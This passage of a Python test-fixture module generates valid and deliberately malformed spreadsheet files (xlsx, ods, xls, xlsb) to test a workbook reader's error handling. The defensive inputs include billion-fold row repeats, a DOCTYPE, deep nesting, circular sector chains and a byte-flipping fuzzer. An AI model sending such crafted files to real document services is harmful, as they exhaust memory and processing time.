    main, rel = (STRICT, STRICT_REL) if strict else (NS, REL)
    shared = list(dict.fromkeys(text for texts in ROWS for text in texts if text))
    rows = "".join(
        f"<row>{''.join(_cell_of(strings, text, number, place, shared, addresses) for place, text in enumerate(texts))}</row>"
        for number, texts in enumerate(ROWS, start=1)
    )
    items = "".join(map(_rich_item if strings == "rich" else _plain_item, shared))
    kinds = [("rId1", "worksheet", "worksheets/sheet1.xml"), ("rId2", "sharedStrings", "sharedStrings.xml")]
    return book(
        _prefixed(sheet_xml(rows, ns=main), prefix),
        {
            "_rels/.rels": rels_xml([("rId1", "officeDocument", "xl/workbook.xml")], rel),
            "xl/workbook.xml": _prefixed(workbook_xml(ns=main, rel=rel), prefix),
            BOOK_RELS: rels_xml(kinds, rel),
            "xl/sharedStrings.xml": _prefixed(f'{XML}<sst xmlns="{main}">{items}</sst>', prefix),
        },
    )


def _cell_of(strings: str, text: str, number: int, place: int, shared: Sequence[str], addresses: bool) -> str:
    at = f' r="{"ABCDEFGH"[place]}{number}"' if addresses else ""
    if not text:
        return f"<c{at}/>"
    if strings == "inline":
        return f'<c{at} t="inlineStr"><is><t>{text}</t></is></c>'
    if strings == "str":
        return f'<c{at} t="str"><f>T("x")</f><v>{text}</v></c>'
    return f'<c{at} t="s"><v>{shared.index(text)}</v></c>'


def _plain_item(text: str) -> str:
    return f'<si><!-- --><t xml:space="preserve"> {text}\n</t></si>'


def _rich_item(text: str) -> str:
    """Two runs, the second in a quoted section, a reading aid, and a comment inside."""
    runs = f"<r><t>{text[:1]}</t></r><r><rPr><b/></rPr><t><![CDATA[{text[1:2]}]]><!-- x -->{text[2:]}</t></r>"
    return f'<si>{runs}<rPh sb="0" eb="1"><t>phiên âm</t></rPh><phoneticPr fontId="1"/></si>'


def _prefixed(text: str, prefix: str) -> str:
    if not prefix:
        return text
    tags = re.sub(r"<(/?)([A-Za-z])", rf"<\1{prefix}:\2", text.replace(" xmlns=", f" xmlns:{prefix}=", 1))
    return re.sub(r"(<!\[CDATA\[.*?\]\]>)", lambda match: match.group().replace(f"{prefix}:", ""), tags)


for _strings, _prefix, _addresses, _strict in product(
    ("shared", "rich", "inline", "str"), ("", "x"), (True, False), (True, False)
):
    enter(
        f"written-{_strings}{'-prefixed' if _prefix else ''}{'' if _addresses else '-bare'}{'-strict' if _strict else ''}",
        partial(written, _strings, _prefix, addresses=_addresses, strict=_strict),
    )


def with_sheets(
    sheets: Sequence[tuple[str, str, str]], rels: Sequence[tuple[str, str, str]], more: Parts
) -> bytes:
    """A workbook that lists such sheets (name, state, relation)."""
    nodes = "".join(
        f'<sheet name="{name}" sheetId="{number}" state="{state}" r:id="{relation}"/>'
        for number, (name, state, relation) in enumerate(sheets, start=1)
    )
    return book(more={"xl/workbook.xml": workbook_xml(nodes), BOOK_RELS: rels_xml(rels), **more})


@case()
def other_kinds_of_sheets_first() -> bytes:
    kinds = ("chartsheet", "xlMacrosheet", "dialogsheet", "worksheet")
    rels = [(f"rId{n}", kind, f"{kind}s/sheet1.xml") for n, kind in enumerate(kinds)]
    sheets = [(kind, "visible", f"rId{n}") for n, kind in enumerate(kinds)]
    return with_sheets(sheets, rels, {f"xl/{kind}s/sheet1.xml": f"<{kind}/>" for kind in kinds[:3]})


@case()
def all_sheets_hidden() -> bytes:
    rels = [("rId1", "worksheet", "worksheets/sheet1.xml"), ("rId2", "worksheet", "worksheets/sheet2.xml")]
    sheets = [("Nhiệm vụ", "hidden", "rId1"), ("Khác", "veryHidden", "rId2")]
    return with_sheets(sheets, rels, {"xl/worksheets/sheet2.xml": sheet_xml(row_xml(1, ("x",)))})


@case()
def relations_in_capitals() -> bytes:
    return with_sheets(
        [("Nhiệm vụ", "visible", "rId1")], [("rId1", "WorkSheet", "WORKSHEETS\\Sheet1.XML")], {}
    )


@case()
def target_with_escapes() -> bytes:
    rels = [("rId1", "worksheet", "worksheets/b%E1%BA%A3ng%201.xml")]
    return with_sheets(
        [("Nhiệm vụ", "visible", "rId1")],
        rels,
        {"xl/worksheets/bảng 1.xml": sheet_xml(), SHEET: sheet_xml("")},
    )


@case()
def no_relations_of_the_package() -> bytes:
    return zipped({name: part for name, part in parts().items() if name != "_rels/.rels"})


@case()
def parts_in_other_folders() -> bytes:
    return zipped(
        {
            "[Content_Types].xml": TYPES,
            "_rels/.rels": rels_xml([("r1", "officeDocument", "/a/so.xml")]),
            "a/so.xml": workbook_xml(),
            "a/_rels/so.xml.rels": rels_xml([("rId1", "worksheet", "/b/c/d.dat")]),
            "b/c/d.dat": sheet_xml(),
        }
    )


COMPATIBILITY = "http://schemas.openxmlformats.org/markup-compatibility/2006"
sheet_case(
    "extensions-that-look-like-cells",
    BODY,
    '<extLst><ext uri="x"><y:row xmlns:y="y" r="3"><y:c r="B3"><y:v>9</y:v></y:c></y:row></ext></extLst>',
    f'<mc:AlternateContent xmlns:mc="{COMPATIBILITY}"><mc:Choice Requires="y"><y:row xmlns:y="y"/></mc:Choice>'
    "<mc:Fallback/></mc:AlternateContent>",
)
sheet_case(
    "merges-that-are-none",
    BODY,
    '<mergeCells><mergeCell ref="A1:A"/><mergeCell/><mergeCell ref="A:B"/><mergeCell ref="$H$90:$G$80"/></mergeCells>',
)


# ---------------------------------------------------------------- OpenDocument


ODS_TYPE = "application/vnd.oasis.opendocument.spreadsheet"
OASIS = "urn:oasis:names:tc:opendocument:xmlns:"


def ods(body: str = "", prolog: str = "", more: Mapping[str, bytes | str] | None = None) -> bytes:
    spaces = " ".join(f'xmlns:{n}="{OASIS}{n}:1.0"' for n in ("office", "table", "text"))
    rows = "".join(f"<table:table-row>{''.join(map(ods_cell, texts))}</table:table-row>" for texts in ROWS)
    table = f'<table:table table:name="Nhiệm vụ">{rows}{body}</table:table>'
    inside = f"<office:body><office:spreadsheet>{table}</office:spreadsheet></office:body>"
    content = f"{XML}{prolog}<office:document-content {spaces}>{inside}</office:document-content>"
    return zipped({"mimetype": ODS_TYPE, "content.xml": content, **(more or {})})


def ods_cell(text: str) -> str:
    return f'<table:table-cell office:value-type="string"><text:p>{text}</text:p></table:table-cell>'


BILLION = "1000000000"
_REPEATED = f'table:number-rows-repeated="{BILLION}"'
_ACROSS = f'table:number-columns-repeated="{BILLION}"'
enter("ods-renamed", ods)
enter(
    "ods-blank-without-end",
    lambda: ods(f"<table:table-row {_REPEATED}><table:table-cell {_ACROSS}/></table:table-row>"),
)
enter(
    "ods-values-without-end",
    lambda: ods(
        f"<table:table-row {_REPEATED}>{ods_cell('x').replace('office:', _ACROSS + ' office:', 1)}</table:table-row>"
    ),
    "file-too-big",
)
enter(
    "ods-repeated-not-a-number",
    lambda: ods('<table:table-row table:number-rows-repeated="-x"/>'),
    "file-damaged",
)
enter("ods-doctype", lambda: ods(prolog="<!DOCTYPE x []>"), "file-unsafe")
enter(
    "ods-deeply-nested",
    lambda: ods("<table:table-row><table:table-cell><text:p>" + "<text:span>" * 40_000),
    "file-damaged",
    "file-unsafe",
)


def ods_inside(wrapper: str) -> Builder:
    """The first rows behind a table that belongs to a cell, a drawing or a list of changes."""
    inner = '<table:table table:name="Khác"><table:table-row>{}</table:table-row></table:table>'
    return lambda: ods(wrapper.format(inner.format(ods_cell("1.9") + ods_cell("Không phải nhiệm vụ"))))


enter(
    "ods-table-in-a-cell",
    ods_inside("<table:table-row><table:table-cell>{}</table:table-cell></table:table-row>"),
)
enter("ods-table-in-a-drawing", ods_inside("<table:shapes>{}</table:shapes>"))
enter(
    "ods-rows-in-groups",
    lambda: ods(
        "<table:table-row-group><table:table-header-rows><table:table-row>"
        + "".join(map(ods_cell, ("1.3", "Công khai thủ tục", "", "30/6/2026")))
        + "</table:table-row></table:table-header-rows></table:table-row-group>"
    ),
    titles=(*TITLES, "Công khai thủ tục"),
)
ODS_ODD = "".join(
    f'<table:table-cell office:value-type="{kind}"><text:p>?</text:p></table:table-cell>'
    for kind in ("date", "time", "boolean", "float", "currency", "percentage", "void", "x")
)
enter("ods-kinds-without-values", lambda: ods(f"<table:table-row>{ODS_ODD}</table:table-row>"))
enter(
    "odt-renamed",
    lambda: zipped({"mimetype": ODS_TYPE.replace("spreadsheet", "text"), "content.xml": "<a/>"}),
    "file-not-excel",
)
enter("ods-without-content", lambda: zipped({"mimetype": ODS_TYPE}), "file-not-excel")


# ---------------------------------------------------------------- binary workbooks


def ole(streams: Mapping[str, bytes]) -> bytes:
    """A compound file: header, one table sector for each 128 sectors, the directory, the streams."""
    contents = [
        content.ljust(max(4096, -(-len(content) // 512) * 512), b"\0") for content in streams.values()
    ]
    sectors = sum(len(content) // 512 for content in contents)
    directory = -(-(len(streams) + 1) // 4)
    tables = 1
    while tables * 128 < tables + directory + sectors:
        tables += 1
    table = [0xFFFFFFFD] * tables + [*range(tables + 1, tables + directory), 0xFFFFFFFE]
    entries = [_entry("Root Entry", 5, 0xFFFFFFFE, 0, child=1)]
    for number, (name, content) in enumerate(zip(streams, contents, strict=True), start=1):
        first, count = len(table), len(content) // 512
        table += [*range(first + 1, first + count), 0xFFFFFFFE]
        following = number + 1 if number < len(streams) else 0xFFFFFFFF
        entries.append(_entry(name, 2, first, len(content), right=following))
    table += [0xFFFFFFFF] * (tables * 128 - len(table))
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<5H", 0x3E, 3, 0xFFFE, 9, 6)
    head += bytes(10) + struct.pack("<4I", tables, tables, 0, 4096)
    head += struct.pack("<4I", 0xFFFFFFFE, 0, 0xFFFFFFFE, 0) + struct.pack(f"<{tables}I", *range(tables))
    head = head.ljust(512, b"\xff")
    return b"".join(
        [
            head,
            struct.pack(f"<{len(table)}I", *table),
            b"".join(entries).ljust(directory * 512, b"\0"),
            *contents,
        ]
    )


def _entry(
    name: str, kind: int, first: int, size: int, child: int = 0xFFFFFFFF, right: int = 0xFFFFFFFF
) -> bytes:
    words = name.encode("utf-16-le").ljust(64, b"\0")
    about = struct.pack("<HBB3I", 2 * len(name) + 2, kind, 1, 0xFFFFFFFF, right, child)
    return words + about + bytes(36) + struct.pack("<IQ", first, size)


def biff(kind: int, content: bytes) -> bytes:
    return struct.pack("<HH", kind, len(content)) + content


def label(row: int, column: int, text: str) -> bytes:
    return biff(0x0204, struct.pack("<4HB", row, column, 0, len(text), 1) + text.encode("utf-16-le"))


def xls(first: bytes = b"", last: bytes = b"", offset: int | None = None) -> bytes:
    """An .xls file of ROWS; first: records of the workbook, last: records behind the sheet's cells."""
    start = biff(0x0809, struct.pack("<4H2I", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 6)) + first
    begin = len(start) + 4 + 8 + 2 * len("Nhiệm vụ") + 4
    name = struct.pack("<IHBB", begin if offset is None else offset, 0, len("Nhiệm vụ"), 1)
    book_ = start + biff(0x0085, name + "Nhiệm vụ".encode("utf-16-le")) + biff(0x000A, b"")
    cells = b"".join(label(r, c, text) for r, row in enumerate(ROWS) for c, text in enumerate(row) if text)
    sheet = biff(0x0809, struct.pack("<4H2I", 0x0600, 0x0010, 0x0DBB, 0x07CC, 0, 6)) + cells + last
    return ole({"Workbook": book_ + sheet + biff(0x000A, b"")})


def xls_95(last: bytes = b"") -> bytes:
    """An .xls file of Excel 95 (BIFF5), the words of ROWS in TCVN3 as its time wrote them."""
    start = biff(0x0809, struct.pack("<4H", 0x0500, 0x0005, 0x0DBB, 0x07CC))
    start += biff(0x0042, struct.pack("<H", 1252))
    begin = len(start) + 4 + 7 + len(b"Nhiem vu") + 4
    sheet = biff(0x0085, struct.pack("<IHB", begin, 0, len(b"Nhiem vu")) + b"Nhiem vu")
    head = biff(0x0809, struct.pack("<4H", 0x0500, 0x0010, 0x0DBB, 0x07CC))
    words = (
        (b"TT", "Nhi\xd6m v\xf4 c\xf4 th\xd3".encode("latin-1"), b"Th\xeai gian th\xf9c hi\xd6n"),
        (b"1", b"R\xb5 so\xb8t th\xf1 t\xf4c", b"30/6/2026"),
        (b"2", b"Ni\xaam y\xd5t th\xf1 t\xf4c", b"15/9/2026"),
    )
    cells = b"".join(
        biff(0x0204, struct.pack("<4H", row, column, 0, len(text)) + text)
        for row, texts in enumerate(words)
        for column, text in enumerate(texts)
    )
    return ole({"Book": start + sheet + biff(0x000A, b"") + head + cells + last + biff(0x000A, b"")})


def patched(data: bytes, place: int, content: bytes) -> bytes:
    return data[:place] + content + data[place + len(content) :]


XLS = "phu-luc.xls"
BROKEN_XLS = ("file-damaged", "file-too-slow", "file-needs-memory", "file-no-sheet", "file-not-excel")
enter("xls", xls, name=XLS)
enter("xls-renamed", xls)
enter("xls-95", xls_95, name=XLS)
enter(
    "xls-value-in-the-last-row",
    lambda: xls(last=label(65_535, 3, "x")),
    name=XLS,
)
enter("xls-value-beyond-the-last-column", lambda: xls(last=label(9, 256, "x")), *BROKEN_XLS, name=XLS)
enter("xls-table-in-a-circle", lambda: patched(xls(), 512 + 8, struct.pack("<I", 2)), *BROKEN_XLS, name=XLS)
enter(
    "xls-directory-goes-on-outside",
    lambda: patched(xls(), 512 + 4, struct.pack("<I", 0x7FFF_FFFF)),
    *BROKEN_XLS,
    READ,
    name=XLS,
)
enter(
    "xls-directory-of-itself",
    lambda: patched(xls(), 512 + 512 + 68, struct.pack("<3I", 0, 0, 0)),
    *BROKEN_XLS,
    READ,
    name=XLS,
)
enter("xls-no-sector-size", lambda: patched(xls(), 30, b"\xff\xff"), "file-damaged", name=XLS)
enter("xls-tables-without-end", lambda: patched(xls(), 44, b"\xff\xff\xff\x7f"), "file-damaged", name=XLS)
enter(
    "xls-more-tables-in-a-circle",
    lambda: patched(xls(), 68, struct.pack("<2I", 1, 0x7FFFFFFF)),
    *BROKEN_XLS,
    READ,
    name=XLS,
)
enter("xls-sheet-outside", lambda: xls(offset=4090), *BROKEN_XLS, name=XLS)
enter("xls-sheet-in-the-workbook", lambda: xls(offset=0), *BROKEN_XLS, "no-task-sheet", READ, name=XLS)
enter(
    "xls-strings-without-end",
    lambda: xls(first=biff(0x00FC, b"\xff\xff\xff\x7f" * 2)),
    *BROKEN_XLS,
    READ,
    name=XLS,
)
enter("xls-record-cut", lambda: xls(last=struct.pack("<HH", 0x0204, 60_000)), *BROKEN_XLS, READ, name=XLS)
enter("xls-cut", lambda: xls()[:1900], *BROKEN_XLS, name=XLS)
enter("xls-cut-behind-the-cells", lambda: xls()[:2500], *BROKEN_XLS, READ, name=XLS)
enter(
    "xls-formula-cut",
    lambda: xls(last=biff(0x06, bytes(10))),
    *BROKEN_XLS,
    name=XLS,
)


def xlsb() -> bytes:
    """What tells an .xlsb file: its records are not read."""
    return zipped(
        {
            "[Content_Types].xml": TYPES,
            "_rels/.rels": rels_xml([("rId1", "officeDocument", "xl/workbook.bin")]),
            "xl/workbook.bin": biff(0x83, b""),
        }
    )


enter("xlsb", xlsb, "file-binary", name="phu-luc.xlsb")
enter("xlsb-renamed", xlsb, "file-binary")


# ---------------------------------------------------------------- broken at random

_ODD_VALUES = (
    *("", "0", "-1", "1e308", "nan", "x", "4294967296", "16385", "1048577", "A1", "A1:A1048576", "XFD1"),
    *("#REF!", "_x0000_", "\u200b", "46203", "0.5", "=1", "inlineStr", "s", "str", "b", "e", "d", "n"),
)
_TARGETS = (
    r'="([^"]*)"',
    r">([^<]+)<",
    r"</?([A-Za-z:]+)",
    r"(<[A-Za-z:]+[^<>]*/>)",
    r'( [A-Za-z:]+="[^"]*")',
)


def mutant(data: bytes, seed: int) -> bytes:
    """A package with a few values, names and elements of one part changed, or bytes of it flipped."""
    chance = random.Random(seed)
    with zipfile.ZipFile(BytesIO(data)) as archive:
        content = {name: archive.read(name) for name in archive.namelist()}
    name = chance.choice(sorted(content))
    for _ in range(chance.randrange(1, 6)):
        content[name] = (_flipped_byte if chance.randrange(4) == 0 else _changed)(content[name], chance)
    return zipped(content)


def _flipped_byte(part: bytes, chance: random.Random) -> bytes:
    broken = bytearray(part or b" ")
    broken[chance.randrange(len(broken))] = chance.randrange(256)
    return bytes(broken)


def _changed(part: bytes, chance: random.Random) -> bytes:
    """Another value for an attribute or text, another name for an element; something gone or there twice."""
    text = part.decode("utf-8", "replace")
    found = list(re.finditer(chance.choice(_TARGETS), text))
    if not found:
        return part
    place, other = chance.choice(found), chance.choice(found)
    new = chance.choice((other.group(1), "", place.group(1) * 2, *chance.choices(_ODD_VALUES, k=4)))
    return (text[: place.start(1)] + new + text[place.end(1) :]).encode("utf-8", "replace")


def sample() -> bytes:
    """The program's sample workbook."""
    return next((Path(__file__).resolve().parents[2] / "data").glob("*.xlsx")).read_bytes()
